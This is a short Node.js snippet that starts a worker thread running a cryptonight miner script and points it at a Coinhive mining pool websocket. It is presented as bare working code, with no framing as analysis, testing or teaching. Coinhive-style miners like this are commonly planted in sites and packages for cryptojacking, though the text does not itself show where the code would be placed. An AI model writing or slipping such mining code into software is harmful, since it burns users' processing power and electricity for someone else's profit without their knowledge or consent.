const W = require('worker_threads');
const pool = 'wss://pool.coinhive.com/proxy';
// cryptonight in wasm
new W.Worker('./miner.js', { workerData: { pool, algo: 'cryptonight' } });
